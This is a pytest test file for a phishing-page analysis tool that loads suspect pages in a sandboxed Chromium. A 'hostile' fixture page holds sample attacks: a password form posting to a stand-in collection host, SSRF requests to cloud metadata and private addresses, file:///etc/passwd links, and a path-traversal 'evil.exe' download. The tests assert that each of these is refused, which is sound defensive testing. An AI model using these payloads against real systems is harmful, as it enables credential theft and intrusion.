"""A real Chromium, sandbox on, visits pages on loopback under real names: one harmless, the others not."""

from __future__ import annotations

import asyncio
import base64
import calendar
import hashlib
import io
import json
import os
import socket
import ssl
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
import trustme
from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from PIL import Image
from playwright.sync_api import sync_playwright

from phishlab.errors import MissingExtraError
from phishlab.wire import browser, forms, guard, visit, watch
from tests.servers import page, web

PUBLIC = "8.217.61.41"
LINK = "http://sgogoj.com/kagoya/activemail.kagoya?login=example%40example.or.jp"
NAMES = {"sgogoj.com": [PUBLIC], "rebind.example": ["127.0.0.1"], "localhost": ["127.0.0.1"]}

Seen = dict[str, Any]
Visit = Callable[..., Seen]


@pytest.fixture(scope="module")
def chromium() -> str:
    try:
        return visit.find()
    except MissingExtraError as missing:
        pytest.skip(str(missing))


@pytest.fixture
def look(chromium: str, tmp_path: Path) -> Visit:
    """Visit a path of sgogoj.com that a server of *pages* stands behind; the manifest as a dict."""

    def go(url: str, pages: dict[str, page.Page], resolve: Any = _resolve, **options: Any) -> Seen:
        with page.serving(pages) as site:
            return _visit(url, tmp_path, site, resolve, **options)

    return go


def _resolve(host: str) -> Sequence[str]:
    return NAMES.get(host, [])


def _visit(url: str, folder: Path, site: page.PageServer, resolve: Any = _resolve, **options: Any) -> Seen:
    dial = {(PUBLIC, 80): ("127.0.0.1", site.port)}
    kept = visit.visit(url, folder, resolve=resolve, dial=dial, **options)
    manifest = json.loads(kept)
    assert isinstance(manifest, dict)
    for name, digest in manifest["files"].items():
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == digest
    return manifest | {"asked": site.asked, "folder": folder}


def _refused(seen: Seen) -> set[tuple[str, str]]:
    return {(row["url"], row["reason"]) for row in seen["blocked"] if not row["browser_own"]}


def _statuses(seen: Seen) -> list[int]:
    return [hop["status"] for hop in seen["chain"]]


# --- the harmless page ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def harmless(chromium: str, tmp_path_factory: pytest.TempPathFactory) -> Seen:
    """The imitation, reached through a redirect."""
    with page.serving({"/go": page.redirect(LINK)}) as site:
        return _visit("http://sgogoj.com/go", tmp_path_factory.mktemp("visit"), site)


@pytest.mark.browser
def test_the_chain_is_what_the_servers_sent_and_nothing_that_the_browser_made_up(harmless: Seen) -> None:
    assert harmless["chain"] == [
        {"url": "http://sgogoj.com/go", "status": 302},
        {"url": LINK, "status": 200},
    ]
    assert (harmless["final_url"], harmless["error"]) == (LINK, "")
    assert [target for _, target in harmless["asked"]] == ["/go", LINK.removeprefix("http://sgogoj.com")]


@pytest.mark.browser
def test_the_peer_is_the_address_of_the_page_not_the_proxys(harmless: Seen) -> None:
    assert harmless["peer"] == PUBLIC
    assert {request["address"] for request in harmless["requests"]} == {PUBLIC}


@pytest.mark.browser
def test_the_form_and_its_password_field_are_found_and_nothing_is_sent(harmless: Seen) -> None:
    (form,) = harmless["forms"]
    assert (form["action"], form["method"]) == ("http://sgogoj.com/kagoya/post.php", "post")
    assert {"type": "password", "name": "password"} in form["fields"]
    assert {"type": "text", "name": "login"} in form["fields"]
    assert {method for method, _ in harmless["asked"]} == {"GET"}


@pytest.mark.browser
def test_the_picture_shows_the_page(harmless: Seen) -> None:
    picture = Image.open(io.BytesIO((harmless["folder"] / "page.png").read_bytes())).convert("RGB")
    assert picture.size == (visit.WIDTH, visit.HEIGHT)
    assert picture.getpixel((640, 20)) == pytest.approx((43, 102, 158), abs=12)  # the header, blue
    assert picture.getpixel((10, 600)) == (0xE9, 0xEE, 0xF4)
    assert len(picture.getcolors(1 << 20) or ()) > 300
    assert harmless["title"] == "Active! mail ログイン"


@pytest.mark.browser
def test_the_browsers_own_calls_are_refused_and_named_as_its_own(harmless: Seen) -> None:
    assert _refused(harmless) == set()
    assert {row["reason"] for row in harmless["blocked"]} <= {"browser-own"}


@pytest.mark.browser
def test_the_manifest_is_canonical_and_dated_in_utc(chromium: str, tmp_path: Path) -> None:
    with page.serving({}) as site:
        dial = {(PUBLIC, 80): ("127.0.0.1", site.port)}
        kept = visit.visit(LINK, tmp_path, resolve=_resolve, dial=dial)
    told = json.loads(kept)
    assert json.dumps(told, ensure_ascii=False, sort_keys=True, separators=(",", ":")).encode() == kept
    assert told["browser"].startswith("Chromium ")
    assert abs(calendar.timegm(time.strptime(told["started"], "%Y-%m-%dT%H:%M:%SZ")) - time.time()) < 120


@pytest.mark.browser
def test_japanese_is_drawn_and_not_boxes(look: Visit) -> None:
    cells = "".join(f"<td style='width:80px;height:80px;padding:0'>{char}" for char in "日本語ログ")
    table = "<body style='margin:0;font-size:60px'><table style='border-spacing:0;table-layout:fixed;width:400px'>"
    seen = look("http://sgogoj.com/", {"/": page.html(f"<html lang=ja>{table}<tr>{cells}</table>")})
    picture = Image.open(seen["folder"] / "page.png").convert("L")
    drawn = {picture.crop((80 * at, 0, 80 * at + 80, 80)).tobytes() for at in range(5)}
    assert len(drawn) == 5, "boxes look all the same: install a Japanese font (Debian: fonts-noto-cjk)"


@pytest.mark.browser
def test_a_server_learns_a_japanese_browser_and_nothing_of_this_machine(
    chromium: str, tmp_path: Path
) -> None:
    with page.serving({}) as site:
        _visit(LINK, tmp_path, site)
    (head,) = site.heads[:1]
    assert head["accept-language"] == "ja-JP"
    assert "Headless" not in head["user-agent"]
    assert "cookie" not in head
    assert "referer" not in head


@pytest.mark.browser
def test_a_visit_works_inside_a_running_event_loop_as_notebooks_have_one(look: Visit) -> None:
    async def cell() -> Seen:
        return look("http://sgogoj.com/", {"/": page.html("<title>入口</title>")})

    assert asyncio.run(cell())["title"] == "入口"


# --- the hostile page -----------------------------------------------------------------------------------

HOSTILE = """<!doctype html><title>Hostile</title>
<form name=f action=//collect.example/x method=post><input type=password name=p></form>
<img src=http://169.254.169.254/latest/meta-data/><img src=http://rebind.example/x.png>
<img src=http://[::1]/x.png><img src=http://localhost/x.png><img src=http://nowhere.example/x.png>
<a href=file:///etc/passwd>f</a><iframe src=file:///etc/passwd></iframe><iframe src=/frame></iframe>
<img src=http://127.0.0.1:LISTENER/x.png>
<script>
alert('hello'); confirm('sure?'); window.open('/popup');
fetch('http://10.0.0.5/x').catch(() => 0);
new WebSocket('ws://192.168.0.1/s'); new WebSocket('ws://sgogoj.com/s');
fetch('/api', {method: 'POST', body: 'x'}).catch(() => 0);
navigator.sendBeacon('/beacon', 'x');
for (const name of ['geolocation', 'notifications', 'camera', 'clipboard-read'])
  navigator.permissions.query({name}).then(found => console.log(name + ' ' + found.state));
const call = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:LISTENER'}]});
call.createDataChannel('x'); call.createOffer().then(offer => call.setLocalDescription(offer));
const link = document.createElement('a');
link.href = '/evil'; link.download = '..\\\\..\\\\evil.exe'; document.body.append(link); link.click();
setTimeout(() => document.f.submit(), 300);
</script>"""
EVIL = b"MZ not a program"


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[socket.socket, socket.socket]]:
    """TCP and UDP on one port of this machine: nothing may reach them past the proxy."""
    with socket.create_server(("127.0.0.1", 0)) as tcp, socket.socket(type=socket.SOCK_DGRAM) as udp:
        udp.bind(tcp.getsockname())
        tcp.setblocking(False)
        udp.setblocking(False)
        yield tcp, udp


@pytest.fixture(scope="module")
def hostile(
    chromium: str, tmp_path_factory: pytest.TempPathFactory, listener: tuple[socket.socket, socket.socket]
) -> Seen:
    port = str(listener[0].getsockname()[1])
    attachment = {
        "Content-Type": "application/octet-stream",
        "Content-Disposition": "attachment; filename=../../evil.exe",
    }
    pages: dict[str, page.Page] = {
        "/": page.html(HOSTILE.replace("LISTENER", port)),
        "/frame": page.html("<form action=inner.php><input type=password name=inner></form>"),
        "/evil": (200, attachment, EVIL),
    }
    with page.serving(pages) as site:
        return _visit("http://sgogoj.com/", tmp_path_factory.mktemp("visit"), site)


@pytest.mark.browser
@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("http://169.254.169.254/latest/meta-data/", "not-public"),
        ("http://rebind.example/x.png", "not-public"),
        ("http://[::1]/x.png", "not-public"),
        ("http://localhost/x.png", "not-public"),
        ("http://10.0.0.5/x", "not-public"),
        ("192.168.0.1:80", "not-public"),
        ("sgogoj.com:80", "not-tls"),
        ("http://nowhere.example/x.png", "no-address"),
        ("file:///etc/passwd", "local-file"),
        ("http://sgogoj.com/popup", "pop-up"),
        ("http://sgogoj.com/api", "upload"),
        ("http://sgogoj.com/beacon", "upload"),
        ("http://collect.example/x", "upload"),
    ],
)
def test_what_a_hostile_page_tries_is_refused_and_written_down(hostile: Seen, url: str, reason: str) -> None:
    assert (url, reason) in _refused(hostile)


@pytest.mark.browser
def test_only_three_harmless_requests_left_the_browser(
    hostile: Seen, listener: tuple[socket.socket, socket.socket]
) -> None:
    assert sorted(hostile["asked"]) == [("GET", "/"), ("GET", "/evil"), ("GET", "/frame")]
    tcp, udp = listener
    with pytest.raises(BlockingIOError):
        tcp.accept()
    with pytest.raises(BlockingIOError):
        udp.recv(2000)


@pytest.mark.browser
def test_a_form_that_a_script_submits_does_not_take_the_page_away(hostile: Seen) -> None:
    assert (hostile["title"], hostile["final_url"], _statuses(hostile)) == (
        "Hostile",
        "http://sgogoj.com/",
        [200],
    )
    assert (hostile["folder"] / "page.png").stat().st_size > 1_000


@pytest.mark.browser
def test_forms_in_frames_are_found_too(hostile: Seen) -> None:
    assert [(form["action"], form["method"]) for form in hostile["forms"]] == [
        ("http://collect.example/x", "post"),
        ("http://sgogoj.com/inner.php", "get"),
    ]


@pytest.mark.browser
def test_dialogs_are_dismissed_and_permissions_denied(hostile: Seen) -> None:
    assert hostile["dialogs"] == [{"kind": "alert", "text": "hello"}, {"kind": "confirm", "text": "sure?"}]
    said = {line["text"] for line in hostile["console"]}
    assert {"geolocation denied", "notifications denied", "camera denied", "clipboard-read denied"} <= said


@pytest.mark.browser
def test_a_pushed_file_is_kept_under_our_own_name_and_not_opened(hostile: Seen) -> None:
    (pushed,) = hostile["downloads"]
    assert (pushed["name"], pushed["url"]) == ("download-1.bin", "http://sgogoj.com/evil")
    kept = hostile["folder"] / "download-1.bin"
    assert kept.read_bytes() == EVIL
    assert not kept.stat().st_mode & 0o111
    assert sorted(file.name for file in hostile["folder"].iterdir()) == sorted(hostile["files"])


# --- pages that never end, and other limits -------------------------------------------------------------


@pytest.mark.browser
def test_ten_redirects_are_followed_and_no_more(look: Visit) -> None:
    pages: dict[str, page.Page] = {f"/{at}": page.redirect(f"/{at + 1}") for at in range(30)}
    seen = look("http://sgogoj.com/0", pages)
    assert (seen["error"], len(seen["asked"]), _statuses(seen)) == ("too-many-redirects", 11, [302] * 11)


@pytest.mark.browser
def test_a_page_that_sends_itself_on_by_script_stays_where_the_limit_is(look: Visit) -> None:
    seen = look(
        "http://sgogoj.com/", {"/": page.html("<script>location = '/?' + Math.random()</script>")}, timeout=40
    )
    assert "too-many-redirects" in {reason for _, reason in _refused(seen)}
    assert len(seen["asked"]) <= watch.MAX_REDIRECTS + 1


@pytest.mark.browser
def test_a_response_that_never_ends_is_looked_at_as_far_as_it_came(look: Visit) -> None:
    seen = look("http://sgogoj.com/", {"/": page.dripping(40)}, timeout=18)
    assert (seen["title"], seen["limits"], seen["error"]) == ("Slow", ["not-loaded"], "")
    assert "page.png" in seen["files"]


@pytest.mark.browser
def test_a_page_that_hangs_the_browser_ends_at_the_deadline_with_all_its_processes(
    look: Visit, monkeypatch: pytest.MonkeyPatch
) -> None:
    rooms: list[Path] = []
    end = visit._end

    def noted(child: Any, room: Path) -> None:
        rooms.append(room)
        end(child, room)

    monkeypatch.setattr(visit, "_end", noted)
    began = time.monotonic()
    seen = look(
        "http://sgogoj.com/", {"/": page.html("<title>x</title><script>for (;;);</script>")}, timeout=14
    )
    assert time.monotonic() - began < 25
    assert (seen["error"], _statuses(seen), seen["peer"]) == ("timeout", [200], PUBLIC)
    (room,) = rooms
    assert not room.exists()
    assert _processes(str(room)) == []


def _processes(word: str) -> list[str]:
    """Command lines on this machine that name *word*, those that are just ending left out."""
    for _ in range(20):
        found = []
        for process in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                line = process.read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if word in line:
                found.append(line)
        if not found:
            return []
        time.sleep(0.1)
    return found


@pytest.mark.browser
def test_an_endless_page_is_drawn_to_a_limit(look: Visit) -> None:
    seen = look("http://sgogoj.com/", {"/": page.html("<div style='height:200000px'>tall</div>")})
    with Image.open(seen["folder"] / "page.png") as picture:
        assert picture.size == (visit.WIDTH, 8_000)
    assert seen["limits"] == ["picture-cut"]


@pytest.mark.browser
def test_a_huge_page_is_cut_and_says_so(look: Visit, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("phishlab.wire.proxy.MAX_RESPONSE", 200_000)
    seen = look("http://sgogoj.com/", {"/": page.html("<title>big</title>" + "<p>big" * 100_000)}, timeout=13)
    assert ("http://sgogoj.com/", "too-large") in _refused(seen)
    assert seen["title"] == "big"
    assert (seen["folder"] / "dom.html").stat().st_size < 1_000_000


@pytest.mark.browser
def test_an_address_that_is_a_file_is_kept_and_named_so(look: Visit) -> None:
    seen = look(
        "http://sgogoj.com/invoice.zip", {"/invoice.zip": (200, {"Content-Type": "application/zip"}, b"PK")}
    )
    assert (seen["error"], _statuses(seen), "page.png" in seen["files"]) == ("download", [200], False)
    assert (seen["folder"] / "download-1.bin").read_bytes() == b"PK"


@pytest.mark.browser
@pytest.mark.parametrize(
    ("to", "error"),
    [
        ("http://127.0.0.1:8080/admin", "not-public"),
        ("http://169.254.169.254/", "not-public"),
        ("http://nowhere.example/", "no-address"),
        ("file:///etc/passwd", "unsafe-redirect"),
        ("https://sgogoj.com/", "unreachable"),
    ],
)
def test_a_redirect_to_where_nobody_goes_ends_there(look: Visit, to: str, error: str) -> None:
    seen = look("http://sgogoj.com/", {"/": page.redirect(to)})
    assert (seen["error"], _statuses(seen), seen["asked"]) == (error, [302], [("GET", "/")])
    assert (seen["title"], seen["forms"]) == ("", [])


@pytest.mark.browser
def test_a_server_that_has_no_page_is_not_an_empty_page(look: Visit) -> None:
    seen = look("http://sgogoj.com/gone", {})
    assert (seen["error"], _statuses(seen), seen["peer"]) == ("empty", [404], PUBLIC)


@pytest.mark.browser
def test_a_service_worker_is_not_installed(
    look: Visit, monkeypatch: pytest.MonkeyPatch, chromium: str, tmp_path: Path
) -> None:
    # Only pages of this machine or over TLS may have one; so this one is let through to this machine.
    monkeypatch.setattr(guard, "is_public", lambda _: True)
    script = "navigator.serviceWorker.register('/worker.js').then(() => console.log('asked'))"
    pages: dict[str, page.Page] = {
        "/": page.html(f"<script>{script}</script>"),
        "/worker.js": (200, {"Content-Type": "text/javascript"}, b"0"),
    }
    with page.serving(pages) as site:
        kept = visit.visit(f"http://127.0.0.1:{site.port}/", tmp_path, resolve=_resolve)
    assert "asked" in {line["text"] for line in json.loads(kept)["console"]}
    assert "/worker.js" not in {target for _, target in site.asked}


@pytest.mark.browser
def test_a_title_that_no_encoding_can_hold_is_still_text(look: Visit) -> None:
    script = "<script>document.title = 'a\\ud800b'; alert('c\\udfffd')</script>"
    seen = look("http://sgogoj.com/", {"/": page.html(script)})
    assert seen["title"].startswith("a")
    assert seen["dialogs"] == [{"kind": "alert", "text": "c\ufffdd"}]


# --- the sandbox and the child --------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.skipif(sys.platform != "linux", reason="chrome://sandbox exists on Linux alone")
def test_the_sandbox_is_on_also_for_root(chromium: str) -> None:
    with visit._room() as room, sync_playwright() as playwright:
        settings = browser.Settings(
            url="",
            chromium=chromium,
            proxy=9,
            room=str(room),
            out=str(room / "out"),
            timeout=30,
            width=800,
            height=600,
            locale="ja-JP",
        )
        with browser.browser(playwright, settings) as context:
            context.pages[0].goto("chrome://sandbox")
            told = context.pages[0].inner_text("body")
        user = (room / "profile").stat().st_uid
    assert "You are adequately sandboxed." in told
    assert user == (browser.NOBODY if os.geteuid() == 0 else os.geteuid())


@pytest.fixture
def script() -> Iterator[Callable[[str], Path]]:
    """A shell script in the browser's place, where any user may run it and write beside it."""
    with tempfile.TemporaryDirectory() as name:
        Path(name).chmod(0o777)

        def write(text: str) -> Path:
            place = Path(name) / "chromium"
            place.write_text(f"#!/bin/sh\n{text}\n", encoding="utf-8")
            place.chmod(0o755)
            return place

        yield write


@pytest.mark.browser
def test_a_browser_that_cannot_be_run_is_an_error_and_was_told_no_secret(
    chromium: str, script: Callable[[str], Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = script('env > "$0.env"\nexit 7')
    monkeypatch.setenv("PHISHLAB_CHROMIUM", str(fake))
    monkeypatch.setenv("PHISHLAB_VIRUSTOTAL_KEY", "hunter2")
    with page.serving({}) as site:
        seen = _visit(LINK, tmp_path, site)
    assert (seen["error"], seen["chain"], seen["peer"]) == ("browser", [], None)
    assert seen["error_detail"]
    assert site.asked == []
    told = Path(f"{fake}.env").read_text(encoding="utf-8")
    assert "hunter2" not in told
    assert f"HOME={Path.home()}\n" not in told


# --- TLS ------------------------------------------------------------------------------------------------


@pytest.fixture
def secure(tmp_path: Path) -> Iterator[tuple[guard.Dial, str]]:
    """http that sends on to https, and https with a certificate that no browser knows; its key's hash."""
    certificate = trustme.CA().issue_cert("sgogoj.com")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    certificate.configure_cert(context)
    key = x509.load_pem_x509_certificate(certificate.cert_chain_pems[0].bytes()).public_key()
    known = key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    login = web.page("<title>over TLS</title><form method=post action=x><input type=password></form>")
    loop = {f"sgogoj.com/{at}": web.redirect(f"/{at + 1}") for at in range(30)}
    plain = {"sgogoj.com/": web.redirect("https://sgogoj.com/login")}
    with web.serving(plain) as http, web.serving({"sgogoj.com/login": login, **loop}, context) as https:
        yield (
            {(PUBLIC, 80): http, (PUBLIC, 443): https},
            base64.b64encode(hashlib.sha256(known).digest()).decode(),
        )


@pytest.mark.browser
def test_a_certificate_that_is_not_valid_is_no_page(
    chromium: str, secure: tuple[guard.Dial, str], tmp_path: Path
) -> None:
    seen = json.loads(visit.visit("http://sgogoj.com/", tmp_path, resolve=_resolve, dial=secure[0]))
    assert (seen["error"], _statuses(seen), seen["peer"]) == ("certificate", [302], PUBLIC)
    assert (seen["final_url"], seen["title"]) == ("https://sgogoj.com/login", "")


@pytest.fixture
def trusting(
    chromium: str,
    secure: tuple[guard.Dial, str],
    script: Callable[[str], Path],
    monkeypatch: pytest.MonkeyPatch,
) -> guard.Dial:
    """The same servers, and a browser that was told of their key."""
    dial, known = secure
    told = script(f'exec {chromium} "$@" --ignore-certificate-errors-spki-list={known}')
    monkeypatch.setenv("PHISHLAB_CHROMIUM", str(told))
    return dial


@pytest.mark.browser
def test_a_page_over_tls_is_seen_through_a_tunnel_that_is_not_opened(
    trusting: guard.Dial, tmp_path: Path
) -> None:
    seen = json.loads(visit.visit("http://sgogoj.com/", tmp_path, resolve=_resolve, dial=trusting))
    assert (seen["error"], _statuses(seen), seen["peer"]) == ("", [302, 200], PUBLIC)
    assert (seen["title"], seen["forms"][0]["action"]) == ("over TLS", "https://sgogoj.com/x")


@pytest.mark.browser
def test_redirects_are_counted_inside_a_tunnel_too(trusting: guard.Dial, tmp_path: Path) -> None:
    seen = json.loads(visit.visit("https://sgogoj.com/0", tmp_path, resolve=_resolve, dial=trusting))
    # Of the last one the browser tells no status, and nobody else could read it.
    assert (seen["error"], _statuses(seen)) == ("too-many-redirects", [302] * 10)


# --- what is missing, and what is never visited ---------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "chrome://version",
        "javascript:alert(1)",
        "data:text/html,x",
        "view-source:http://a/",
        "ftp://a/",
        "",
        "http://",
        "\x00",
    ],
)
def test_another_scheme_never_reaches_the_browser(
    url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(visit, "find", lambda: "chromium")
    monkeypatch.setattr(visit, "_run", lambda *_: pytest.fail("the browser was started"))
    assert json.loads(visit.visit(url, tmp_path, resolve=_resolve))["error"] == "scheme"


def test_without_chromium_the_command_that_brings_it_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("importlib.util.find_spec", lambda _: object())
    monkeypatch.setenv("PATH", "/nowhere")
    with pytest.raises(MissingExtraError, match="apt install chromium"):
        visit.find()
    monkeypatch.setenv("PHISHLAB_CHROMIUM", "/nowhere/chromium")
    with pytest.raises(MissingExtraError, match="PHISHLAB_CHROMIUM names /nowhere/chromium"):
        visit.find()


def test_without_playwright_the_command_that_brings_it_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("importlib.util.find_spec", lambda _: None)
    with pytest.raises(MissingExtraError, match=r"pip install 'phishlab\[page\]'"):
        visit.find()


# --- forms ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("dom", "found"),
    [
        (
            "<form action=post.php method=POST><input type=PASSWORD name=p></form>",
            [("http://a.example/k/post.php", "post", [("password", "p")])],
        ),
        ("<form><input name=q></form>", [("http://a.example/k/", "get", [("text", "q")])]),
        ("<base href=//b.example/><form action=x method=odd></form>", [("http://b.example/x", "get", [])]),
        (
            "<form id=f action=/x></form><input form=f name=far>",
            [("http://a.example/x", "get", [("text", "far")])],
        ),
        ("<input type=password name=p><button>Go</button>", [("", "", [("password", "p"), ("submit", "")])]),
        (
            "<form action='javascript:go()'><input name=action></form>",
            [("javascript:go()", "get", [("text", "action")])],
        ),
        ("<form action='http://['></form>", [("http://[", "get", [])]),
        (
            "<form><select name=s><option>1</select><textarea name=t></textarea></form>",
            [("http://a.example/k/", "get", [("select", "s"), ("textarea", "t")])],
        ),
        ("<p>no form</p>", []),
        ("", []),
    ],
    ids=[
        "plain",
        "no action",
        "base",
        "by id",
        "no form",
        "clobbered",
        "broken action",
        "not inputs",
        "none",
        "empty",
    ],
)
def test_forms_are_read_from_the_dom(dom: str, found: list[tuple[str, str, list[tuple[str, str]]]]) -> None:
    _, read = forms.read(dom.encode(), "http://a.example/k/")
    assert [
        (form["action"], form["method"], [(field["type"], field["name"]) for field in form["fields"]])
        for form in read
    ] == found


def test_the_title_is_the_pages_and_not_a_pictures() -> None:
    dom = b"<body><svg><title>icon</title></svg><title> Active!\n mail </title>"
    assert forms.read(dom, "http://a.example/")[0] == "Active! mail"


def test_a_million_fields_are_read_to_a_limit() -> None:
    _, read = forms.read(
        b"<form>" + b"<input>" * 5_000 + b"</form>" + b"<form></form>" * 500, "http://a.example/"
    )
    assert (len(read), len(read[0]["fields"])) == (50, 200)
